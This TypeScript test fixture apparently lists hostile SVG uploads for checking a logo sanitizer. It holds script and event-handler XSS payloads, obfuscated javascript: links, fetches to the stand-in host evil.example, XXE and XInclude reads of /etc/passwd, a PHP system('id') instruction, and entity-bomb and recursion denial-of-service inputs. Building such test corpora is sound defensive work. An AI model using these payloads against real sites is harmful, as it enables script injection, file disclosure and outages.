const NS = `xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"`;
const inside = (content: string) => `<svg ${NS}>${content}<rect width="9" height="9"/></svg>`;
const nested = (deep: number) => inside("<g>".repeat(deep) + "</g>".repeat(deep));

/** Ten parts, each of which draws the one before ten times. */
const laughs = Array.from(
  { length: 9 },
  (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`,
).join("");

/** What somebody could upload in the place of a logo, by what it tries. */
export const hostile: readonly (readonly [what: string, svg: string | Uint8Array])[] = [
  ["a script", inside("<script>alert(1)</script>")],
  ["a script in CDATA", inside("<script><![CDATA[alert(1)]]></script>")],
  ["a script with an address", inside(`<script href="https://evil.example/x.js"/>`)],
  [
    "a script under another prefix",
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>alert(1)</s:script></s:svg>`,
  ],
  ["a script of XHTML", inside(`<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`)],
  [
    "a prefixed script of XHTML",
    inside(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`),
  ],
  ["onload at the root", `<svg ${NS} onload="alert(1)"><rect width="9" height="9"/></svg>`],
  ["onclick", inside(`<rect onclick="alert(1)" width="1" height="1"/>`)],
  ["onmouseover with entities", inside(`<rect onmouseover="&#97;lert(1)" width="1" height="1"/>`)],
  [
    "onbegin of an animation",
    inside(`<rect><animate onbegin="alert(1)" attributeName="x" dur="1s"/></rect>`),
  ],
  ["an event in capitals", inside(`<rect ONLOAD="alert(1)"/>`)],
  ["a link to a script", inside(`<a xlink:href="javascript:alert(1)"><rect/></a>`)],
  ["a link to a script, plain href", inside(`<a href="javascript:alert(1)"><rect/></a>`)],
  ["a link to a script, written with entities", inside(`<a href="&#106;avascript:alert(1)"><rect/></a>`)],
  ["a link to a script with a tab in it", inside(`<a href="java&#9;script:alert(1)"><rect/></a>`)],
  [
    "an animation that sets a link",
    inside(`<a><set attributeName="href" to="javascript:alert(1)"/><rect/></a>`),
  ],
  ["values of an animation", inside(`<animate attributeName="href" values="javascript:alert(1)"/>`)],
  [
    "foreignObject",
    inside(
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
    ),
  ],
  [
    "an iframe",
    inside(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>`,
    ),
  ],
  [
    "an iframe without a frame",
    inside(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>`),
  ],
  ["an embedded SVG", inside(`<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>`)],
  ["a picture from elsewhere", inside(`<image xlink:href="https://evil.example/track.png"/>`)],
  ["a picture of the machine", inside(`<image xlink:href="file:///etc/passwd"/>`)],
  ["a use of another file", inside(`<use xlink:href="https://evil.example/x.svg#a"/>`)],
  ["a use of data", inside(`<use href="data:image/svg+xml,%3Csvg id='a'/%3E#a"/>`)],
  ["a use without a scheme", inside(`<use href="//evil.example/x.svg#a"/>`)],
  [
    "a filter that fetches",
    inside(`<filter id="f"><feImage href="https://evil.example/x"/></filter><rect filter="url(#f)"/>`),
  ],
  ["fill from elsewhere", inside(`<rect fill="url(https://evil.example/x#a)"/>`)],
  ["fill from elsewhere, quoted", inside(`<rect fill="url('https://evil.example/x#a')"/>`)],
  ["a style that fetches", inside(`<rect style="fill:url(https://evil.example/x)"/>`)],
  ["a style that fetches, escaped", inside(`<rect style="fill:u\\72l(https://evil.example/x)"/>`)],
  ["a style with a comment in url", inside(`<rect style="fill:ur/**/l(https://evil.example/x)"/>`)],
  ["a style with an old expression", inside(`<rect style="width:expression(alert(1))"/>`)],
  [
    "a style with a behaviour",
    inside(
      `<rect style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x)"/>`,
    ),
  ],
  ["image-set", inside(`<rect style="fill:image-set('https://evil.example/x' 1x)"/>`)],
  ["src()", inside(`<rect style="fill:src('https://evil.example/x')"/>`)],
  ["a sheet that imports", inside(`<style>@import url(https://evil.example/x.css);</style>`)],
  ["a sheet that imports, escaped", inside(`<style>@\\69mport "https://evil.example/x.css";</style>`)],
  ["a sheet with a font", inside(`<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>`)],
  ["a sheet that fetches", inside(`<style>rect{fill:url(https://evil.example/x)}</style>`)],
  ["a sheet that ends itself", inside(`<style><![CDATA[</style><script>alert(1)</script>]]></style>`)],
  ["a sheet that reads attributes", inside(`<style>rect[id^="a"]{fill:url(https://evil.example/a)}</style>`)],
  [
    "an outer entity",
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside("<text>&x;</text>")}`,
  ],
  [
    "an outer entity by parameter",
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>${inside("")}`,
  ],
  ["an outer definition", `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${inside("")}`],
  [
    "a bomb of entities",
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${inside("<text>&c;</text>")}`,
  ],
  ["a definition in small letters", `<!doctype svg [<!entity x "y">]>${inside("")}`],
  ["an entity that nobody knows", inside("<text>&unknown;</text>")],
  [
    "a style sheet by instruction",
    `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${inside("")}`,
  ],
  ["an instruction for PHP", `${inside("<text>x</text>")}<?php system("id"); ?>`],
  ["UTF-7", `<?xml version="1.0" encoding="UTF-7"?>${inside("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")}`],
  ["UTF-16", new Uint8Array(Buffer.from(`\ufeff${inside("<script>alert(1)</script>")}`, "utf16le"))],
  [
    "bytes that are no UTF-8",
    new Uint8Array([...Buffer.from(`<svg ${NS}>`), 0xc0, 0xbc, ...Buffer.from("</svg>")]),
  ],
  ["a NUL within a name", inside("<scr\u0000ipt>alert(1)</scr\u0000ipt>")],
  [
    "XInclude",
    inside(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`),
  ],
  ["parts that draw each other", inside(`<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>`)],
  ["a part that draws itself", inside(`<g id="a"><use href="#a"/></g>`)],
  ["ten times ten times ten parts", inside(`<g id="l0"><rect/></g>${laughs}`)],
  [
    "patterns that fill each other",
    inside(
      `<pattern id="a" width="1" height="1"><rect fill="url(#b)"/></pattern><pattern id="b" width="1" height="1"><rect style="fill:url(#a)"/></pattern>`,
    ),
  ],
  [
    "a pattern by class",
    inside(`<style>.x{fill:url(#a)}</style><pattern id="a" width="1" height="1"><rect class="x"/></pattern>`),
  ],
  ["groups without end", nested(5_000)],
  ["an audio element", inside(`<audio xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>`)],
  [
    "a handler element",
    inside(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`),
  ],
  ["a base for links", `<svg ${NS} xml:base="https://evil.example/"><use href="#x"/><rect/></svg>`],
  ["text that looks like a tag", inside("<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>")],
  [
    "an attribute that ends itself",
    inside(`<rect id="a&quot; onload=&quot;alert(1)" fill="&quot;>&lt;script>"/>`),
  ],
  ["a tag within a title", inside(`<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>`)],
  ["two roots", `${inside("")}<script>alert(1)</script>`],
  ["a page of HTML", `<html><body><script>alert(1)</script></body></html>`],
  [
    "a page of HTML that says it is SVG",
    `<html xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>alert(1)</script></html>`,
  ],
  ["an unclosed tag", `<svg ${NS}><script>alert(1)`],
  ["an attribute without quotes", `<svg ${NS} onload=alert(1)></svg>`],
  ["an endless box", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e30 1e30"><rect/></svg>`],
  ["a box of no width", `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="5"><rect/></svg>`],
];
